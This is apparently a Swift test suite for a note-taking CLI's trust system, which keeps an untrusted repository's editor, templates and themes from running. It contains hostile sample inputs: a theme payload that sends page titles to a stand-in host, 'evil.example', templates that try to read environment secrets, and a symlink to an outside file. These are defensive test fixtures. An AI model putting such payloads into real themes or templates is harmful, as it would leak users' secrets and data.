import Foundation
import NoteTestSupport
import Testing

/// The settings that are taken from a repository which the user has not trusted.
@Suite struct TrustTests {
  private let session: CommandSession

  init() throws {
    session = try CommandSession(environment: ["EDITOR": "mine"])
    try session.folder.write("editor: evil\nopener: evil\n", to: ".sheaf/config.yaml")
    try session.folder.write("# A\n\n<https://example.com/>\n", to: "a.md")
  }

  @Test func `the editor and the opener of a repository are not started`() {
    _ = session.run(["edit", "a"], onTerminal: true)
    _ = session.run(["open", "a"])
    #expect(session.startedPrograms == ["mine", "xdg-open"])
  }

  @Test func `ignored settings are reported once for each state of the file`() throws {
    let warning = """
      warning: .sheaf/config.yaml has settings that take effect only in a repository that you trust:
        editor: evil
        opener: evil
      If you know where this repository comes from, run “sheaf config trust”.

      """
    #expect(session.run(["list"]).errors == warning)
    #expect(session.run(["list"]).errors == "")
    #expect(session.run(["show", "a"]).errors == "")
    try session.folder.write("editor: worse\n", to: ".sheaf/config.yaml")
    #expect(session.run(["list"]).errors.contains("\n  editor: worse\n"))
    #expect(session.run(["list"]).errors == "")
  }

  @Test func `trust that cannot be taken back is an error, not “there was none”`() throws {
    _ = session.run(["config", "trust"])
    let record = try #require(session.home.files().first { $0.hasSuffix("/trusted-config") })
    let path = session.home.path + "/" + record
    try FileManager.default.removeItem(atPath: path)
    try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: false)
    #expect(session.run(["config", "trust", "--remove"]).status > 1)
  }

  @Test func `trust lets them through until the file changes, and can be taken back`() throws {
    let trusted = session.run(["config", "trust"])
    #expect(trusted.errors == ".sheaf/config.yaml is trusted until it changes\n")
    #expect(trusted.output == "editor: evil\nopener: evil\n")
    _ = session.run(["edit", "a"], onTerminal: true)
    #expect(session.run(["config", "trust", "--remove"]).status == 0)
    #expect(session.run(["config", "trust", "--remove"]).status == 1)
    _ = session.run(["edit", "a"], onTerminal: true)
    _ = session.run(["config", "trust"])
    try session.folder.write("editor: evil\nopener: other\n", to: ".sheaf/config.yaml")
    let lapsed = session.run(["edit", "a"], onTerminal: true)
    #expect(
      lapsed.errors.hasPrefix("warning: .sheaf/config.yaml was changed since you trusted it;"))
    #expect(session.startedPrograms == ["evil", "mine", "mine"])
  }

  @Test func `the warning names the file that changed, also a program`() throws {
    try session.folder.write("true\n", to: "tools/edit.sh")
    try session.folder.write("editor: sh tools/edit.sh\n", to: ".sheaf/config.yaml")
    #expect(session.run(["list"]).errors.contains(".sheaf/config.yaml has settings"))
    #expect(session.run(["config", "trust"]).status == 0)
    #expect(session.run(["list"]).errors == "")
    try session.folder.write("false\n", to: "tools/edit.sh")
    let lapsed = session.run(["list"])
    #expect(lapsed.errors.hasPrefix("warning: tools/edit.sh was changed since you trusted it;"), "\(lapsed.errors)")
  }

  @Test func `trust covers the programs of the repository that a setting names, and what these name`() throws {
    try session.folder.write(
      "#!/bin/sh\n. tools/common.sh\n\"$(dirname \"$0\")/part.py\" Memo/Inbox.md\n", to: "tools/edit.sh")
    for name in [
      "tools/common.sh", "tools/part.py", "tools/other.sh", "Memo/Inbox.md", "tools/call.sh", "deep/in.sh", "my own.sh",
      "more own.sh",
    ] {
      try session.folder.write("true\n", to: name)
    }
    try session.folder.write(
      "editor: sh ./tools/edit.sh\nalias:\n  x: '!\"$PWD/tools/call.sh\" && cd deep && ./in.sh && \"../my own.sh\" && ../more\\ own.sh'\n",
      to: ".sheaf/config.yaml")
    let trusted = session.run(["config", "trust"])
    for name in [
      "tools/edit.sh", "tools/common.sh", "tools/part.py", "tools/call.sh", "deep/in.sh", "my own.sh", "more own.sh",
    ] {
      #expect(trusted.output.contains("\n\(name)\n"), "\(name)")
    }
    func isTrusted() -> Bool {
      _ = session.run(["edit", "a"], onTerminal: true)
      return session.startedPrograms.last == "sh ./tools/edit.sh"
    }
    #expect(isTrusted())
    for name in ["tools/other.sh", "Memo/Inbox.md"] { try session.folder.write("false\n", to: name) }
    #expect(isTrusted())
    for name in [
      "tools/edit.sh", "tools/common.sh", "tools/part.py", "tools/call.sh", "deep/in.sh", "my own.sh", "more own.sh",
    ] {
      let before = try session.folder.read(name)
      try session.folder.write(before + Array("false\n".utf8), to: name)
      #expect(!isTrusted(), "\(name)")
      try session.folder.write(before, to: name)
      #expect(isTrusted(), "\(name)")
    }
    try session.folder.remove("tools/part.py")
    #expect(!isTrusted())
  }

  @Test func `the trust is kept outside the repository`() throws {
    let before = session.folder.files()
    _ = session.run(["config", "trust"])
    #expect(session.folder.files() == before)
  }

  @Test func `config shows what is ignored, and the value of the user`() {
    let shown = session.run(["config"])
    #expect(shown.output.contains("\neditor") && !shown.output.contains("evil"))
    #expect(shown.errors.contains("\n  editor: evil\n"))
    #expect(session.run(["config"]).errors == shown.errors)
    #expect(session.run(["config", "editor"]).output == "\"\"\n")
    #expect(session.run(["config", "--json"]).output.contains("\"not trusted\""))
  }

  @Test func `a template reads the environment only where the repository is trusted`() throws {
    let session = try CommandSession(environment: ["SECRET": "key"])
    try session.folder.write("# {{title}}\n\n{{ env.SECRET }}\n", to: ".sheaf/templates/memo.md")
    let refused = session.run(["new", "A", "--print-path"])
    #expect(refused.status == 64)
    #expect(
      refused.errors == """
        error: .sheaf/templates/memo.md reads your environment or clipboard, and this repository is not trusted
        hint: If you know where this repository comes from, run “sheaf config trust”.

        """)
    #expect(session.run(["config", "trust"]).output == ".sheaf/templates/memo.md: {{env}}\n")
    #expect(session.run(["new", "A"]).status == 0)
    #expect(try session.folder.read("Memo/A.md") == Array("# A\n\nkey\n".utf8))
    try session.folder.write("{{env.SECRET}}{{env.HOME}}\n", to: ".sheaf/templates/memo.md")
    #expect(session.run(["new", "B"]).status == 64)
  }

  @Test(arguments: ["work/plan", "a/b/c", ".hidden/x", "1/2/3/4/5/6/7/8/9"])
  func `trust covers a template at any depth, as it was`(name: String) throws {
    let session = try CommandSession(environment: ["SECRET": "key"])
    let file = ".sheaf/templates/\(name).md"
    try session.folder.write("# {{title}}\n", to: file)
    _ = session.run(["config", "trust"])
    try session.folder.write("{{env.SECRET}}\n", to: file)
    #expect(session.run(["new", "A", "--template", name]).status == 64)
    #expect(!session.folder.files().contains("Memo/A.md"))
  }

  @Test func `a theme that is not trusted is not used, and every publication says so`() throws {
    let hostile = "<script>fetch('/')</script><img src='https://evil.example/{{title}}'>"
    for name in ["page.html", "note.html", "style.css", "more.css", "sub/x.html", "a.js"] {
      try session.folder.write(hostile, to: ".sheaf/theme/" + name)
    }
    func site() throws -> (errors: String, isHostile: Bool) {
      let site = try TemporaryFolder()
      let errors = session.run(["publish", "-o", site.path]).errors
      let texts = try site.files().map { String(decoding: try site.read($0), as: UTF8.self) }
      return (errors, texts.contains { $0.contains("evil.example") })
    }
    let first = try site()
    #expect(!first.isHostile)
    #expect(
      first.errors.contains(
        """
        warning: Templates, style sheets and scripts of a theme are used only in a repository that you trust:
          .sheaf/theme/a.js
          .sheaf/theme/more.css
          .sheaf/theme/note.html
          .sheaf/theme/page.html
          .sheaf/theme/style.css
          .sheaf/theme/sub/x.html
        """))
    #expect(try site().errors.contains("used only in a repository that you trust"))
    _ = session.run(["config", "trust"])
    #expect(try site().isHostile)
    try session.folder.write(hostile + "!", to: ".sheaf/theme/sub/x.html")
    let lapsed = try site()
    #expect(!lapsed.isHostile)
    #expect(lapsed.errors.contains("The theme was changed since you trusted it"))
  }

  @Test(arguments: [
    "<!doctype html>\n<html lang='a'>\n<head>{{{content}}}</head>",
    "<html a=b\"c><head>{{{content}}}",
    "{{{content}}}", "<!--<head>-->{{{content}}}",
    "<!DOCTYPE html><script>x()</script>{{{content}}}",
    "<header><head>{{{content}}}",
  ])
  func `the policy is in a page before anything else, whatever its template says`(
    template: String
  ) throws {
    try session.folder.write(template, to: ".sheaf/theme/page.html")
    _ = session.run(["config", "trust"])
    let site = try TemporaryFolder()
    #expect(session.run(["publish", "-o", site.path]).status == 0)
    let page = String(decoding: try site.read("notes/a.html"), as: UTF8.self)
    let policy = try #require(
      page.range(of: "<meta http-equiv=\"Content-Security-Policy\" content="))
    let before = page[..<policy.lowerBound].replacing(
      #/<!doctype html>|<html lang='a'>|<head>|\s/#.ignoresCase(), with: "")
    #expect(before == "")
    #expect(page[policy.upperBound...].hasPrefix("\"default-src 'none'; "))
  }

  @Test(arguments: ["{{#env}}{{SECRET}}{{/env}}", "{{=<% %>=}}<% env.SECRET %>", "{{{env}}}"])
  func `no way of writing a template gets at the environment`(template: String) throws {
    let session = try CommandSession(environment: ["SECRET": "key"])
    try session.folder.write(template + "\n", to: ".sheaf/templates/memo.md")
    _ = session.run(["new", "A", "--print-path"])
    for name in session.folder.files() where name.hasPrefix("Memo/") {
      #expect(!String(decoding: try session.folder.read(name), as: UTF8.self).contains("key"))
    }
  }

  /// A template of notes is refused. A theme that nobody trusted is passed over, so that the page is the standard one.
  @Test(arguments: [(".sheaf/theme/note.html", 0), (".sheaf/templates/memo.md", 64)])
  func `a settings file that is a link to a place outside is not read`(
    name: String, status: Int32
  ) throws {
    let outside = try TemporaryFolder()
    try outside.write("secret", to: "key")
    try session.folder.write("", to: name)
    try session.folder.remove(name)
    try FileManager.default.createSymbolicLink(
      atPath: session.folder.path + "/" + name, withDestinationPath: outside.path + "/key")
    let words = name.contains("theme") ? ["publish", "-o", "site"] : ["new", "A"]
    let run = session.run(words)
    #expect(run.status == status)
    #expect(status == 0 || run.errors.contains("error: The symbolic link \(name) points out"))
    for file in session.folder.files() where file.hasPrefix("site/") || file.hasPrefix("Memo/") {
      #expect(try !String(decoding: session.folder.read(file), as: UTF8.self).contains("secret"))
    }
  }
}
